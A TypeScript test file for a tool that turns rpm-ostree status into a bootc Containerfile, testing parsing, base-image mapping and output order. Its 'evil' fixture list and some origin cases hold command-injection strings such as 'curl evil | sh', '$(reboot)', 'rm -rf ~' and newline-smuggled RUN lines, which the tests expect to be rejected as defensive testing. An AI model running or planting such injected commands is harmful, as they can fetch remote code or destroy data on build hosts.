/** The way of a layered host to bootc: what is read of its status, what is planned, and what is never written into a Containerfile. */
import { join } from "node:path";
import { describe, expect, test } from "vitest";
import { z } from "zod";
import { UsageError } from "../../harness/base/errors.ts";
import { packageRoot } from "../../harness/base/package-root.ts";
import { parseStatus } from "../../harness/cli/commands/migrate-plan-command.ts";
import { loadYaml } from "../../harness/config/load-yaml.ts";
import { changeRows, localChanges } from "../../harness/guest/tools/rpm-ostree.ts";
import { type MigratePlan, planMigration } from "../../harness/migrate/migrate-plan.ts";
import {
  containerDeployment,
  deploymentOf,
  everyChange,
  statusOf,
} from "../golden/rpm-ostree-status.ts";

const catalogueRefs = z.object({
  images: z.record(z.string(), z.object({ reference: z.string().optional() })),
});

const read = (status: unknown) => parseStatus(JSON.stringify(status), "status.json");

const planOf = (status: unknown): MigratePlan =>
  planMigration({ status: read(status), slot: "booted", kernelArguments: null });

const planFor = (more: Readonly<Record<string, unknown>>): MigratePlan =>
  planOf(statusOf(deploymentOf(more)));

const errorOf = (action: () => unknown): UsageError => {
  try {
    action();
  } catch (error) {
    if (error instanceof UsageError) return error;
    throw error;
  }
  throw new Error("It was not refused.");
};

describe("the status", () => {
  test("is read with every kind of change, the wish before what is there", () => {
    const [one] = read(statusOf(deploymentOf(everyChange))).deployments;
    expect(one && localChanges(one)).toEqual({
      packages: ["htop", "vim-enhanced", "pkgconfig(zlib)"],
      inactive: ["vim-enhanced"],
      localPackages: ["mytool-1.0-1.noarch"],
      fileOverrides: ["patched-2.0-1.x86_64"],
      removals: ["firefox", "firefox-langpacks"],
      localReplacements: ["podman-5.5.0-1.fc43.x86_64"],
      remoteReplacements: [
        { source: "repo=copr:example", packages: ["mesa-libGL-26.1-1.fc43.x86_64"] },
      ],
      regenerateInitramfs: true,
      initramfsArgs: ["--add-drivers", "nvme vfio"],
      initramfsEtc: ["/etc/vconsole.conf"],
      modules: [],
      modulesEnabled: [],
      cliwrap: false,
    });
  });

  test("of an old version, which lacks keys and has modules, is read", () => {
    const [one] = read({
      deployments: [
        {
          checksum: "c".repeat(64),
          booted: true,
          origin: "fedora:fedora/34/x86_64/silverblue",
          "requested-packages": ["tmux"],
          "requested-modules": ["nodejs:16/default"],
          "requested-modules-enabled": ["cri-o:1.20"],
          "base-removals": [["nano-5.6-1.fc34.x86_64", "nano", 0, "5.6", "1.fc34", "x86_64"]],
        },
      ],
    }).deployments;
    expect(one && changeRows(localChanges(one))).toEqual([
      { what: "layered package", names: ["tmux"] },
      { what: "package removed from the base", names: ["nano-5.6-1.fc34.x86_64"] },
      { what: "module", names: ["nodejs:16/default", "cri-o:1.20"] },
    ]);
  });

  test("may have null for any of its lists, and keys that nobody knows", () => {
    const { isLayered } = planFor({
      "requested-packages": null,
      packages: null,
      "base-removals": null,
      "base-remote-replacements": null,
      "initramfs-etc": null,
      cliwrap: null,
      future: { deep: [1] },
    });
    expect(isLayered).toBe(false);
  });

  test.each([
    ["an empty file", "", "it is not JSON"],
    ["rpm-ostree's text for people", "State: idle\nDeployments:\n", "it is not JSON"],
    ["a list", "[]", "a map of keys"],
    ["bootc's status", '{"status":{"booted":null}}', "'deployments' is missing"],
    ["no deployment", '{"deployments":[]}', "at least 1 in the list"],
    ["a deployment without a checksum", '{"deployments":[{}]}', "deployments[0].checksum"],
    [
      "packages that are not text",
      `{"deployments":[{"checksum":"a","requested-packages":[1]}]}`,
      "requested-packages[0]",
    ],
  ])("that is %s is refused with what to do", (_, text, why) => {
    const { message } = errorOf(() => parseStatus(text, "status.json"));
    expect(message).toContain("What 'status.json' holds is not the status of rpm-ostree");
    expect(message).toContain(why);
    expect(message).toContain("save what `rpm-ostree status --json` prints");
  });

  test("that is hostile in size is refused", () => {
    const many = deploymentOf({ "requested-packages": Array(5001).fill("a") });
    expect(errorOf(() => read(statusOf(many))).message).toContain("requested-packages");
    const long = deploymentOf({ "requested-packages": ["a".repeat(1001)] });
    expect(errorOf(() => read(statusOf(long))).message).toContain("requested-packages[0]");
    const hundred = Array.from({ length: 101 }, () => deploymentOf());
    expect(errorOf(() => read(statusOf(...hundred))).message).toContain("deployments");
  });
});

describe("the base", () => {
  test.each([
    ["fedora:fedora/43/x86_64/silverblue", "quay.io/fedora-ostree-desktops/silverblue:43"],
    ["fedora:fedora/44/aarch64/kinoite", "quay.io/fedora-ostree-desktops/kinoite:44"],
    ["fedora:fedora/41/x86_64/sericea", "quay.io/fedora-ostree-desktops/sway-atomic:41"],
    [
      "fedora:fedora/rawhide/x86_64/cosmic-atomic",
      "quay.io/fedora-ostree-desktops/cosmic-atomic:rawhide",
    ],
    ["fedora:fedora/x86_64/coreos/stable", "quay.io/fedora/fedora-coreos:stable"],
    ["fedora-iot:fedora/stable/x86_64/iot", "quay.io/fedora/fedora-iot:43"],
    ["ostree://fedora:fedora/43/x86_64/onyx", "quay.io/fedora-ostree-desktops/budgie-atomic:43"],
  ])("of %s is %s", (origin, base) => {
    expect(planFor({ origin }).base).toBe(base);
  });

  test("of Fedora's refs is what the catalogue names", async () => {
    const { images } = await loadYaml(join(packageRoot, "images", "catalogue.yaml"), catalogueRefs);
    const wanted = { silverblue: "silverblue", kinoite: "kinoite", "sway-atomic": "sericea" };
    for (const [entry, ref] of Object.entries({ ...wanted, "cosmic-atomic": "cosmic-atomic" }))
      expect(planFor({ origin: `fedora:fedora/43/x86_64/${ref}` }).base).toBe(
        `${images[entry]?.reference}:43`,
      );
    const iot = planFor({ origin: "fedora-iot:fedora/stable/x86_64/iot" });
    expect(iot.base).toBe(`${images["iot"]?.reference}:43`);
    const coreos = planFor({ origin: "fedora:fedora/x86_64/coreos/next" });
    expect(coreos.base).toBe(`${images["coreos"]?.reference}:next`);
  });

  test.each([
    "example:example/9/x86_64/desktop",
    "a".repeat(64),
    "fedora:fedora/43; rm -rf ~/x86_64/silverblue",
    "fedora:fedora/43\nRUN x/x86_64/silverblue",
  ])("of %j is not guessed, and what to fill in is said", (origin) => {
    const plan = planFor({ origin, "requested-packages": ["htop"] });
    expect(plan.base).toBeNull();
    expect(plan.containerfile).toMatch(/^FROM FILL-IN-THE-BASE-IMAGE$/m);
    expect(plan.needed[0]).toContain("The base image, in place of FILL-IN-THE-BASE-IMAGE.");
    expect(plan.containerfile.split("\n").filter((line) => line.startsWith("RUN"))).toEqual([
      "RUN dnf -y install htop && dnf clean all",
      "RUN bootc container lint",
    ]);
  });

  test.each([
    ["ostree-unverified-registry:quay.io/example/os:1", "quay.io/example/os:1", false],
    ["ostree-unverified-image:docker://quay.io/example/os:1", "quay.io/example/os:1", false],
    ["ostree-image-signed:docker://quay.io/example/os:1", "quay.io/example/os:1", true],
    ["ostree-remote-registry:fedora:quay.io/example/os:1", "quay.io/example/os:1", false],
    ["ostree-remote-image:fedora:docker://quay.io/example/os", "quay.io/example/os", false],
    ["docker://localhost:5000/os@sha256:".concat("0".repeat(64)), undefined, false],
    ["ostree-unverified-image:oci:/var/os", null, false],
    ["ostree-unverified-registry:quay.io/os:1 AS x", null, false],
  ])("of a container origin %s is its image", (origin, base, isSigned) => {
    const status = statusOf(
      containerDeployment({
        "container-image-reference": origin,
        "requested-packages": ["htop"],
      }),
    );
    const plan = planOf(status);
    expect(plan.base).toBe(base === undefined ? origin.replace("docker://", "") : base);
    expect(plan.steps.join("\n").includes("--enforce-container-sigpolicy")).toBe(isSigned);
  });
});

describe("the Containerfile", () => {
  test("has every kind of change, in an order that works", () => {
    expect(
      planFor(everyChange).containerfile,
    ).toBe(`# Made by bootgate migrate-plan for deployment fedora-${"a".repeat(64)}.0.
# It is the image of the same system that Fedora's projects publish; look with \`skopeo inspect\` whether it is there and has the label containers.bootc.
FROM quay.io/fedora-ostree-desktops/silverblue:43

RUN dnf -y --setopt=clean_requirements_on_remove=False remove firefox firefox-langpacks

# Put the RPM files into rpms/replacements/ first:
# podman-5.5.0-1.fc43.x86_64.rpm
COPY rpms/replacements/ /tmp/rpms/replacements/
RUN rpm --upgrade --oldpackage --replacepkgs /tmp/rpms/replacements/*.rpm && rm -rf /tmp/rpms

RUN dnf -y --repo=copr:example distro-sync mesa-libGL-26.1-1.fc43.x86_64

# Put the RPM files into rpms/local/ first:
# mytool-1.0-1.noarch.rpm
COPY rpms/local/ /tmp/rpms/local/
RUN dnf -y install /tmp/rpms/local/*.rpm && rm -rf /tmp/rpms

# Put the RPM files into rpms/over-files/ first:
# patched-2.0-1.x86_64.rpm
COPY rpms/over-files/ /tmp/rpms/over-files/
RUN rpm --upgrade --oldpackage --replacepkgs --replacefiles /tmp/rpms/over-files/*.rpm && rm -rf /tmp/rpms

RUN dnf -y install htop vim-enhanced 'pkgconfig(zlib)' && dnf clean all

COPY etc/vconsole.conf /etc/vconsole.conf
RUN kver=$(ls /usr/lib/modules) && dracut --force --no-hostonly --reproducible --add ostree --add-drivers 'nvme vfio' --install /etc/vconsole.conf "/usr/lib/modules/$kver/initramfs.img" "$kver"

RUN bootc container lint
`);
  });

  const evil = [
    "a; curl evil | sh",
    "a\nRUN curl evil",
    "a\rRUN curl evil",
    "a$(reboot)",
    "a`reboot`",
    "a' && reboot #",
    'a" && reboot',
    "a\\",
    "a<<EOF",
    "--config=/tmp/x",
    "",
    "a b",
    "../../etc/passwd",
    "a\u2028b",
    "a\u0000b",
    "a\u001b[2J",
    "x".repeat(400),
  ];
  test.each([
    ["requested-packages", [...evil, "https://example.org/x.rpm", "x.rpm", "//x/y"]],
    ["requested-local-packages", evil],
    ["requested-local-fileoverride-packages", evil],
    ["requested-base-removals", evil],
    ["requested-base-local-replacements", evil],
    ["requested-modules", evil],
    ["requested-modules-enabled", evil],
    ["initramfs-etc", [...evil, "/etc/../root", "/usr/bin/sh", "/etc/a b"]],
    [
      "initramfs-args",
      ["a\nRUN x", "a<<EOF", "a;b", "$(x)", "`x`", "a\\", "a&b", "a|b", "a>b", ""],
    ],
  ])("is not made with what is not plain in %s", (key, words) => {
    for (const word of words) {
      const error = errorOf(() => planFor({ [key]: ["htop", word] }));
      expect(error.message, word).toContain(`The status has something in '${key}'`);
      expect(error.blame).toBe("caller");
      expect(error.message).not.toMatch(/[\u0000\u001b\r]/);
    }
  });

  test("does not take a replacement without names for one of every package", () => {
    const { containerfile } = planFor({
      "base-remote-replacements": { "repo=x": [] },
      "requested-packages": ["htop"],
    });
    expect(containerfile).not.toContain("distro-sync");
    expect(containerfile).toContain("# What came from 'repo=x' is not named");
  });

  test("is not made with a hostile replacement from a repository", () => {
    const make = (replacements: unknown) => planFor({ "base-remote-replacements": replacements });
    expect(() => make({ "repo=x": ["a; b"] })).toThrow(UsageError);
    const { containerfile } = make({ "repo=x\nRUN evil": ["mesa"] });
    expect(containerfile).not.toMatch(/^RUN evil/m);
    expect(containerfile).toContain("replace them by hand:");
  });

  test("has no line of its own from an identity or a version", () => {
    const { containerfile } = planFor({
      id: "x\nRUN evil",
      version: "1\nRUN evil",
      "requested-packages": ["htop"],
    });
    expect(containerfile).not.toMatch(/^RUN evil/m);
  });
});
